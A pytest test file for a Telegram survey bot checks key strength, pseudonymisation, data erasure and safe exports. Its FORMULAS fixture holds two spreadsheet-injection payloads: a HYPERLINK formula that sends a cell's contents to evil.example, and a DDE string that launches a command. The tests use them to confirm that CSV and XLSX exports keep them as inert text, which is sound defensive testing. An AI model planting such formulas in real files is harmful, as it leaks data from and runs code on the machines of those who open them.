"""Keys, storage and exports, tried as an attacker would: weak keys, known pairs, spreadsheets, leftover bytes."""

from __future__ import annotations

import csv
import re
from collections.abc import Callable
from pathlib import Path

import pyreadstat
import pytest
from openpyxl import load_workbook
from sqlalchemy.ext.asyncio import AsyncEngine

from bot.__main__ import export_dataset
from core import privacy
from core.config import ConfigError, load_settings
from devtools.emulator import BotApiEmulator
from research.export import CSV_ENCODING, WRITERS
from tests.conftest import (
    RESEARCHER_ID,
    TEST_KEY,
    TEST_TOKEN,
    Finished,
    make_settings,
    start_application,
    stop_application,
    table_rows,
)
from tests.harness import BotHarness, Clock
from tests.test_unlinking import complete_survey, lookups, rows_with

FORMULAS = {
    "city_name": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "comment": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.mark.parametrize(
    ("env", "variable"),
    [
        ({"PSEUDONYM_KEY": "k"}, "PSEUDONYM_KEY"),
        ({"PSEUDONYM_KEY": "test-pseudonym-key"}, "PSEUDONYM_KEY"),
        ({"PSEUDONYM_KEY": "ab" * 16}, "PSEUDONYM_KEY"),  # 128 bits
        ({"PSEUDONYM_KEY": "0" * 64}, "PSEUDONYM_KEY"),  # 256 bits of nothing
        ({"PSEUDONYM_KEY": "correct horse battery staple and then some more words"}, "PSEUDONYM_KEY"),
        ({"PSEUDONYM_KEY": TEST_KEY, "PSEUDONYM_KEY_OLD": "old"}, "PSEUDONYM_KEY_OLD"),
        ({"PSEUDONYM_KEY": TEST_KEY, "BOT_TOKEN": "1:x"}, "BOT_TOKEN"),
        (
            {"PSEUDONYM_KEY": TEST_KEY, "WEBHOOK_URL": "https://x.example/t", "WEBHOOK_SECRET": "s3cret"},
            "WEBHOOK_SECRET",
        ),
    ],
)
def test_weak_keys_and_short_secrets_stop_start_up(
    bot_main: Callable[..., Finished], env: dict[str, str], variable: str
) -> None:
    """A guessable key or a secret too short to redact stops the bot: exit 2, one line naming it."""
    result = bot_main("run", env={"BOT_TOKEN": TEST_TOKEN, **env})
    assert result.returncode == 2
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith(f"configuration error: {variable}: ")
    if "KEY" in variable:
        assert "python -m bot keygen" in lines[0]
    assert all(value not in lines[0] for value in env.values() if len(value) > 3)


def test_keygen_prints_a_fresh_key_the_bot_accepts(bot_main: Callable[..., Finished]) -> None:
    """`python -m bot keygen` prints 64 hex digits, new each time, accepted as PSEUDONYM_KEY."""
    keys = [bot_main("keygen").stdout.strip() for _n in range(2)]
    assert all(re.fullmatch(r"[0-9a-f]{64}", key) for key in keys) and keys[0] != keys[1]
    assert load_settings(_env_file=None, pseudonym_key=keys[0]).pseudonym_key is not None
    base64_key = privacy.base64.urlsafe_b64encode(bytes.fromhex(keys[1])).decode().rstrip("=")
    assert load_settings(_env_file=None, pseudonym_key=base64_key).pseudonym_key is not None
    with pytest.raises(ConfigError, match="PSEUDONYM_KEY"):
        load_settings(_env_file=None, pseudonym_key=keys[0][:48])


async def test_no_stored_value_pairs_with_a_configured_researcher_id(
    harness: BotHarness, engine: AsyncEngine
) -> None:
    """RESEARCHER_IDS is no known-plaintext pair: a researcher's settings sit under another derivation."""
    researcher = harness.user(language_code="ru", user_id=RESEARCHER_ID)
    await researcher.send("/language")
    await researcher.press(harness.services.i18n.gettext("kk", "Kazakh"))
    await researcher.send("/stats")
    rows = await table_rows(engine)
    assert len(rows["researcher_settings"]) == 1
    respondent_derivation = {privacy.pseudonym(TEST_KEY, RESEARCHER_ID), str(RESEARCHER_ID)}
    assert await rows_with(engine, respondent_derivation) == []
    assert rows["researcher_settings"][0][0] == privacy.researcher_pseudonym(TEST_KEY, RESEARCHER_ID)
    assert rows["researcher_settings"][0][0] != privacy.pseudonym(TEST_KEY, RESEARCHER_ID)


async def test_exports_coarsen_times_and_make_formulas_inert(
    harness: BotHarness, database_url: str, tmp_path: Path
) -> None:
    """Times are UTC days; a typed formula is text in CSV and XLSX, and stays as typed in .sav."""
    harness.clock.now = harness.clock.now.replace(hour=13, minute=47, second=31, microsecond=654321)
    await complete_survey(
        harness, harness.user(language_code="ru"), FORMULAS["city_name"], FORMULAS["comment"]
    )
    settings = make_settings(database_url)
    for file_format in ("csv", "xlsx", "sav"):
        await export_dataset(settings, file_format, tmp_path / f"data.{file_format}", "ru")

    with (tmp_path / "data.csv").open(encoding=CSV_ENCODING, newline="") as handle:
        [row] = list(csv.DictReader(handle))
    assert row["started_at"] == row["completed_at"] == "2026-03-20"
    assert row["duration_seconds"] == "0"
    for column, typed in FORMULAS.items():
        assert row[column] == "'" + typed

    sheet = load_workbook(tmp_path / "data.xlsx")["data"]
    header = [cell.value for cell in sheet[1]]
    cells = {name: sheet.cell(row=2, column=header.index(name) + 1) for name in (*FORMULAS, "started_at")}
    for column, typed in FORMULAS.items():
        assert cells[column].data_type == "s" and cells[column].value == "'" + typed
    assert not [cell.coordinate for line in sheet.iter_rows() for cell in line if cell.data_type == "f"]
    assert cells["started_at"].value == "2026-03-20"

    frame, _meta = pyreadstat.read_sav(str(tmp_path / "data.sav"))
    assert [frame[column][0] for column in FORMULAS] == list(FORMULAS.values())


async def test_answer_times_are_stored_to_the_second(harness: BotHarness, engine: AsyncEngine) -> None:
    """answered_at holds no microseconds (paradata needs no more, and less matches less)."""
    harness.clock.now = harness.clock.now.replace(microsecond=654321)
    await complete_survey(harness, harness.user(language_code="ru"), "Талдықорған", "—")
    answered = [row[-1] for row in (await table_rows(engine))["answers"]]
    assert answered and all(moment.microsecond == 0 for moment in answered)


@pytest.mark.slow  # /export starts its process
async def test_export_in_chat_leaves_free_text_out_unless_full(harness: BotHarness) -> None:
    """/export omits typed city names and comments; /export full includes them."""
    await complete_survey(harness, harness.user(language_code="ru"), "Жезқазған", "Менің ойым")
    researcher = harness.user(user_id=RESEARCHER_ID, language_code="ru")
    headers = {}
    for command in ("/export", "/export full"):
        await researcher.send(command)
        csv_file = [m for m in researcher.messages if m.media == "document"][-len(WRITERS) - 1]
        headers[command] = csv_file.file.decode(CSV_ENCODING).splitlines()[0].split(",")
    assert not {"city_name", "comment"} & set(headers["/export"])
    assert {"city_name", "comment", "city", "stance"} <= set(headers["/export full"])
    assert {"city", "stance"} <= set(headers["/export"])


async def test_processed_updates_are_forgotten_once_telegram_cannot_redeliver(
    harness: BotHarness, engine: AsyncEngine
) -> None:
    """Update ids live 25 hours (Telegram redelivers for 24), not days."""
    await harness.user(language_code="ru").send("/help")
    harness.clock.advance(hours=24)
    [job] = harness.application.job_queue.get_jobs_by_name("_forget_old_updates")
    await job.run(harness.application)
    assert len((await table_rows(engine))["processed_updates"]) == 1
    harness.clock.advance(hours=1, seconds=1)
    await job.run(harness.application)
    assert (await table_rows(engine))["processed_updates"] == []


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
async def test_an_erased_comment_is_gone_from_the_sqlite_files(
    harness: BotHarness, database_url: str
) -> None:
    """After /delete neither the database file nor its WAL holds the comment's bytes."""
    secret = "Менің құпия пікірім: 0x5EC2E7-ERASE-ME"
    user = harness.user(language_code="ru")
    await complete_survey(harness, user, "Сарыағаш", secret)
    database = Path(database_url.removeprefix("sqlite+aiosqlite:///"))
    files = [database, database.with_name(database.name + "-wal")]
    assert any(secret.encode() in path.read_bytes() for path in files if path.exists())
    _ = harness.services.i18n.translator("ru")
    await user.send("/delete")
    await user.press(_("Yes, erase my answers"))
    for path in files:
        assert not path.exists() or secret.encode() not in path.read_bytes(), path.name


@pytest.mark.parametrize("first", ["/start", "мужской"])
async def test_delete_works_across_a_key_rotation(
    harness: BotHarness,
    engine: AsyncEngine,
    database_url: str,
    emulator: BotApiEmulator,
    clock: Clock,
    first: str,
) -> None:
    """PSEUDONYM_KEY replaced, the old one in PSEUDONYM_KEY_OLD: the person continues and can erase.

    First after the rotation a command, or a typed message (which SQLite keeps before it reads).
    """
    _ = harness.services.i18n.translator("ru")
    user = harness.user(language_code="ru")
    await user.send("/start")
    await user.press(_("I agree"))
    await user.send("61")
    await stop_application(harness.application)
    new_key = privacy.new_key()
    settings = make_settings(database_url, pseudonym_key=new_key, pseudonym_key_old=TEST_KEY)
    harness.application = await start_application(settings, emulator, clock)
    await user.send(first)
    assert user.last.plain_text.endswith(_("What is your gender?"))
    [respondent] = (await table_rows(engine))["respondents"]
    # Moved to the new key, participation hash included.
    assert respondent[1:3] == (
        privacy.pseudonym(new_key, user.id),
        privacy.participant_hash(new_key, user.id),
    )
    await user.send("/delete")
    await user.press(_("Yes, erase my answers"))
    assert first in {message.text for message in emulator.deleted}, "kept under the new key"
    rows = await table_rows(engine)
    assert all(rows[t] == [] for t in ("respondents", "responses", "answers"))
    # All that is left is the erasure's marker, under the new key (docs/privacy.md, "Erasure and repeats").
    marker = privacy.erasure_marker(new_key, privacy.participant_hash(new_key, user.id))
    found = await rows_with(engine, await lookups(harness.services, user.id))
    assert [(table, row[0]) for table, row in found] == [("erasure_markers", marker)]
